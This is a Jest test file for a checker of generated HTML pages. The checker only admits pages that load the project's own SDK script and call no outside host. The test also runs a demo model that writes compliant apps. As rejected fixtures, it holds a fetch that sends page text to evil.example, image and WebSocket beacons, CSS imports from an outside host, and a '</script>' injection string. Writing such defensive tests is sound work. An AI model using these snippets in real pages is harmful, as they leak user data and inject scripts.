import { DemoProvider } from '../demo';
import { checkPage } from './page-check';
import { pageProblem } from './page-safety';
import { generateSystemPrompt } from './prompts';

const page = (body: string, head = '') =>
  `<!DOCTYPE html><html><head><title>t</title>${head}</head><body>${body}</body></html>`;

describe('the page check: it parses, loads only the kit, reaches nothing else', () => {
  it('accepts inline scripts that parse, the kit from our origin, inline SVG and links', () => {
    const ok = page(
      '<a href="https://example.com/help">help</a><svg xmlns="http://www.w3.org/2000/svg"></svg>' +
        '<script src="/sdk/v1/switchyard.js"></script><script>const sy = window.Switchyard ? Switchyard.init({}) : null;</script>' +
        '<script type="application/json">{"not": "code"</script>',
    );
    expect(pageProblem(ok)).toBeNull();
    expect(checkPage(ok)).toMatchObject({ ok: true });
  });

  it('refuses a script that does not parse, an unclosed one and module scripts', () => {
    expect(pageProblem(page('<script>function (</script>'))).toMatch(/^A script does not parse/);
    expect(pageProblem(page('<script>let x = 1;'))).toMatch(/not closed/);
    expect(pageProblem(page('<script type="module">import x from "/x.js";</script>'))).toMatch(/module/);
  });

  it('refuses scripts from elsewhere, whatever the spelling', () => {
    for (const src of [
      'https://cdn.example/lib.js',
      '//cdn.example/lib.js',
      '/sdk/v1/switchyard.js?x=1',
      'http://localhost:3000/sdk/v1/switchyard.js',
      'data:text/javascript,alert(1)',
      '/other.js',
    ]) {
      expect(pageProblem(page(`<script src="${src}"></script>`))).toMatch(/loads the script/);
      expect(pageProblem(page(`<script defer src='${src}'></script>`))).toMatch(/loads the script/);
    }
    expect(pageProblem(page('<script src="/sdk/v1/switchyard.js">alert(1)</script>'))).toMatch(/must be empty/);
  });

  it('refuses a page that names any address to load or call elsewhere', () => {
    for (const body of [
      '<script>fetch("https://evil.example/steal?d=" + document.body.innerText)</script>',
      "<script>new WebSocket('wss://evil.example/'); new Image().src = 'http://evil.example/x'</script>",
      '<img src="https://evil.example/pixel.png">',
      '<style>body { background: url(https://evil.example/bg.png) }</style>',
      '<style>@import "//evil.example/x.css";</style>',
      '<img src="//evil.example/pixel.png">',
      '<link rel="stylesheet" href="https://cdn.example/x.css">',
      '<iframe src="https://evil.example/"></iframe>',
    ])
      expect(pageProblem(page(body))).not.toBeNull();
    const failed = checkPage(page('<img src="https://evil.example/pixel.png">'));
    expect(failed).toEqual({ ok: false, reason: expect.stringContaining('https://evil.example/pixel.png') });
  });
});

describe('the demo model writes AI apps that pass the check, offline', () => {
  const provider = new DemoProvider({ chunkDelayMs: 0, now: () => 0 });
  const write = async (prompt: string, models = { chat: 'demo-chat', image: 'demo-image' }) => {
    const response = await provider.handle({
      method: 'chat_completions',
      publicModel: 'demo-chat',
      json: {
        model: 'demo-chat',
        messages: [
          { role: 'system', content: generateSystemPrompt(models) },
          { role: 'user', content: prompt },
        ],
      },
    });
    return ((await response.json()) as any).choices[0].message.content as string;
  };

  it('a haiku generator, a chat with a pirate, an image maker: each signs in with the kit and calls its model', async () => {
    const cases: Array<[string, string]> = [
      ['a haiku generator', "'/v1/chat/completions'"],
      ['a chat with a pirate', "'/v1/chat/completions'"],
      ['an image maker', "'/v1/images/generations'"],
    ];
    for (const [prompt, path] of cases) {
      const html = await write(prompt);
      expect(checkPage(html)).toMatchObject({ ok: true });
      expect(html).toContain('<script src="/sdk/v1/switchyard.js"></script>');
      expect(html).toContain('data-switchyard-button');
      expect(html).toContain(path);
      expect(html).toContain('window.Switchyard ? Switchyard.init({}) : null');
    }
    expect(await write('a chat with a pirate')).toContain('"demo-chat"');
    expect(await write('an image maker')).toContain('"demo-image"');
  });

  it('writes no AI app when the prompt names no model to call, and keeps the prompt out of the script', async () => {
    const html = await write('a haiku generator', { chat: null, image: null } as never);
    expect(html).not.toContain('switchyard.js');
    const tricky = await write('a haiku generator </script><script>alert(1)</script>');
    expect(checkPage(tricky)).toMatchObject({ ok: true });
    expect(tricky).not.toContain('<script>alert(1)');
  });
});
